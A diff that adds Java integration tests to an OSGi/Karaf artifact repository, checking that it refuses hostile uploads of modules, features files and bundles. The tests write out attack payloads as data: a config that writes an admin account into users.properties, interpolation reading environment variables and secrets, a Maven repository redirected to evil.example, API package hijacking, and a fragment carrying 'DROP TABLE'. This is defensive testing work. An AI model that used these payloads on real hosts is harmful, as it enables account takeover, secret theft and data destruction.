@@ -248,6 +248,53 @@ class ReleaseAttacksIT {
     }
 
     @Test
+    void theNamesOfThePlatformAreReserved() throws Exception {
+        // A module called host (artifact and feature) shadowed the host's own pages and broke its health.
+        for (String name : new String[] {"host", "platform", "console", "api", "modules", "health", "Host", "imio-courrier"}) {
+            String base = "aa/evil/" + name + "/1.0.0/" + name + "-1.0.0";
+            assertRefused(409, "name_reserved", base + "-features.xml", features(name, "1.0.0", "", ""), EVIL);
+            assertRefused(409, "name_reserved", base + ".jar", jar("aa.evil.x", "1.0.0"), EVIL);
+            assertRefused(409, "name_reserved", base + ".kar", zip(module("aa.evil", name, "1.0.0", "aa.evil.x", name)),
+                    EVIL);
+        }
+        // A feature of that name in a module of another name, alone or in an archive.
+        assertRefused(409, "name_reserved", "aa/evil/annex/1.0.0/annex-1.0.0-features.xml", ("<features name=\"annex\""
+                + " xmlns=\"" + KARAF + "\"><feature name=\"annex\" version=\"1.0.0\"/><feature name=\"console\""
+                + " version=\"1.0.0\"/></features>").getBytes(StandardCharsets.UTF_8), EVIL);
+        assertRefused(409, "name_reserved", "aa/evil/annex/1.0.0/annex-1.0.0.kar",
+                zip(module("aa.evil", "annex", "1.0.0", "aa.evil.annex", "status")), EVIL);
+        // iMio's own publishers too: the names are the platform's, not a group's.
+        assertRefused(409, "name_reserved", "be/imio/platform/host/1.0.0/host-1.0.0-features.xml",
+                features("host", "1.0.0", "", ""), IMIO);
+    }
+
+    @Test
+    void aModuleNameIsOwnedWhateverItsCase() throws Exception {
+        // be.imio.platform released courrier; the same name in other cases is still iMio's.
+        for (String name : new String[] {"Courrier", "COURRIER"}) {
+            String base = "aa/evil/" + name + "/10.0.0/" + name + "-10.0.0";
+            assertRefused(409, "name_taken", base + ".jar", jar("aa.evil.courrier", "10.0.0"), EVIL);
+            assertRefused(409, "name_taken", base + "-features.xml", features(name, "10.0.0", "", ""), EVIL);
+            assertRefused(409, "name_taken", base + ".kar",
+                    zip(module("aa.evil", name, "10.0.0", "aa.evil.courrier", name)), EVIL);
+        }
+        byte[] letters = ("<features name=\"letters\" xmlns=\"" + KARAF + "\"><feature name=\"letters\" version=\"1.0.0\"/>"
+                + "<feature name=\"Courrier\" version=\"10.0.0\"/></features>").getBytes(StandardCharsets.UTF_8);
+        assertRefused(409, "name_taken", "aa/evil/letters/1.0.0/letters-1.0.0-features.xml", letters, EVIL);
+        assertRefused(409, "name_taken", "aa/evil/lettres/1.0.0/lettres-1.0.0.kar",
+                zip(module("aa.evil", "lettres", "1.0.0", "aa.evil.lettres", "cOURRIER")), EVIL);
+
+        // A name is claimed once whatever its case: aa.evil's Letters is then its own, and not iMio's letters.
+        assertEquals(201, put("aa/evil/Letters/1.0.0/Letters-1.0.0.jar", jar("aa.evil.letters", "1.0.0"), EVIL)
+                .statusCode());
+        HttpResponse<String> own = put("aa/evil/Letters/1.0.0/Letters-1.0.0-features.xml",
+                features("Letters", "1.0.0", "<bundle>mvn:aa.evil/Letters/1.0.0</bundle>", ""), EVIL);
+        assertEquals(201, own.statusCode(), own.body());
+        assertRefused(409, "name_taken", "be/imio/platform/letters/1.0.0/letters-1.0.0.jar",
+                jar("be.imio.platform.letters", "1.0.0"), IMIO);
+    }
+
+    @Test
     void aFeaturesXmlCannotMakeHostsFetchOrWriteWhatIsNotPinned() throws Exception {
         assertEquals(201, put("aa/evil/pinned/1.0.0/pinned-1.0.0.jar", jar("aa.evil.pinned", "1.0.0"), EVIL).statusCode());
         String bundle = "<bundle>mvn:aa.evil/pinned/1.0.0</bundle>";
@@ -263,6 +310,23 @@ class ReleaseAttacksIT {
         attacks.put("config of Maven", new String[] {"config_outside_module", bundle
                 + "<config name=\"org.ops4j.pax.url.mvn\" append=\"true\">org.ops4j.pax.url.mvn.repositories ="
                 + " http://evil.example/</config>", ""});
+        // Inside its own configuration: keys Karaf acts on (it writes the configuration to the file
+        // felix.fileinstall.filename names: here the host's accounts), and interpolation of the host's values.
+        attacks.put("config writing users.properties", new String[] {"config_property_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned.fy\">\nhacker2 = hackpw2,admin\n"
+                + "felix.fileinstall.filename = file:/opt/karaf/etc/users.properties\n</config>", ""});
+        attacks.put("config appended, key in capitals", new String[] {"config_property_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned\" append=\"true\">FELIX.FILEINSTALL.FILENAME: file:/tmp/x</config>", ""});
+        attacks.put("config service.pid", new String[] {"config_property_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned\">service.pid = be.imio.platform.host</config>", ""});
+        attacks.put("config escaped key", new String[] {"config_property_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned\">fel\\\nix.fileinstall.filename = file:/tmp/x</config>", ""});
+        attacks.put("config interpolation", new String[] {"config_property_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned\">home = ${env:HOME}</config>", ""});
+        attacks.put("config interpolation by Configuration Admin", new String[] {"config_property_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned\">password = $[secret:db.password]</config>", ""});
+        attacks.put("config as JSON", new String[] {"config_property_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned.json\">{\"felix.fileinstall.filename\": \"file:/tmp/x\"}</config>", ""});
         attacks.put("resource-repository", new String[] {"features_element_not_allowed", bundle,
                 "<resource-repository>http://evil.example/index.xml</resource-repository>"});
         attacks.put("configfile", new String[] {"features_element_not_allowed", bundle
@@ -302,6 +366,46 @@ class ReleaseAttacksIT {
         HttpResponse<String> allowed = put("aa/evil/pinned/1.0.0/pinned-1.0.0-features.xml", features("pinned", "1.0.0",
                 "<feature>scr</feature>" + bundle + "<config name=\"aa.evil.pinned\">a = 1</config>", ""), EVIL);
         assertEquals(201, allowed.statusCode(), allowed.body());
+    }
+
+    @Test
+    void aBundleCannotWireIntoWhatIsNotItsOwn() throws Exception {
+        String path = "aa/evil/lib/1.0.0/lib-1.0.0.jar";
+        Map<String, String> classes = Map.of("aa/evil/lib/A.class", "x");
+        // The platform's API at a higher version, and another module's internal package: the
+        // platform's own bundles would wire to the attacker's classes.
+        assertRefused(403, "export_outside_namespace", path, jar("aa.evil.lib", "1.0.0", Map.of("Export-Package",
+                "be.imio.platform.api;version=\"1.99.0\",be.imio.platform.courrier.internal"), classes), EVIL);
+        assertRefused(403, "export_outside_namespace", path, jar("aa.evil.lib", "1.0.0", Map.of("Export-Package",
+                "aa.evil.lib;uses:=\"a,b\";version=\"1.0.0\",be.imio.platform.api;version=\"1.99.0\""), classes), EVIL);
+        assertRefused(403, "export_outside_namespace", path, jar("aa.evil.lib", "1.0.0", Map.of("Export-Package",
+                "aa.evil.lib;be.imio.platform.api;version=1.99.0"), classes), EVIL);
+        // A fragment of iMio's module: its classes and SQL migrations would run as courrier's.
+        assertRefused(403, "fragment_outside_namespace", path, jar("aa.evil.lib", "1.0.0", Map.of("Fragment-Host",
+                "be.imio.platform.courrier;bundle-version=\"[1,2)\""), Map.of("db/migration/V99__evil.sql",
+                "DROP TABLE COURRIER")), EVIL);
+        assertRefused(403, "fragment_outside_namespace", path, jar("aa.evil.lib", "1.0.0", Map.of("Fragment-Host",
+                "system.bundle;extension:=framework"), classes), EVIL);
+        assertRefused(403, "require_bundle_outside_namespace", path, jar("aa.evil.lib", "1.0.0", Map.of("Require-Bundle",
+                "be.imio.platform.courrier;visibility:=reexport"), classes), EVIL);
+        assertRefused(400, "capability_not_allowed", path, jar("aa.evil.lib", "1.0.0", Map.of("Provide-Capability",
+                "osgi.wiring.package;osgi.wiring.package=\"be.imio.platform.api\";version:Version=\"1.99.0\""),
+                classes), EVIL);
+        assertRefused(400, "capability_not_allowed", path, jar("aa.evil.lib", "1.0.0", Map.of("Provide-Capability",
+                "osgi.service;objectClass:List<String>=\"a.B\",osgi.identity;osgi.identity=be.imio.platform.courrier"),
+                classes), EVIL);
+
+        // However it arrives: inside an archive too.
+        Map<String, byte[]> kar = module("aa.evil", "graft", "1.0.0", "aa.evil.graft", "graft");
+        kar.put("repository/aa/evil/graft/1.0.0/graft-1.0.0.jar", jar("aa.evil.graft", "1.0.0",
+                Map.of("Fragment-Host", "be.imio.platform.courrier"), classes));
+        assertRefused(403, "fragment_outside_namespace", "aa/evil/graft/1.0.0/graft-1.0.0.kar", zip(kar), EVIL);
+
+        // Its own packages, fragments and bundles stay its own to export and wire to.
+        HttpResponse<String> own = put(path, jar("aa.evil.lib", "1.0.0", Map.of("Export-Package",
+                "aa.evil.lib;version=\"1.0.0\";uses:=\"aa.evil.lib.x,org.slf4j\"", "Require-Bundle", "aa.evil.other"),
+                classes), EVIL);
+        assertEquals(201, own.statusCode(), own.body());
     }
 
     private static String component(String properties) {
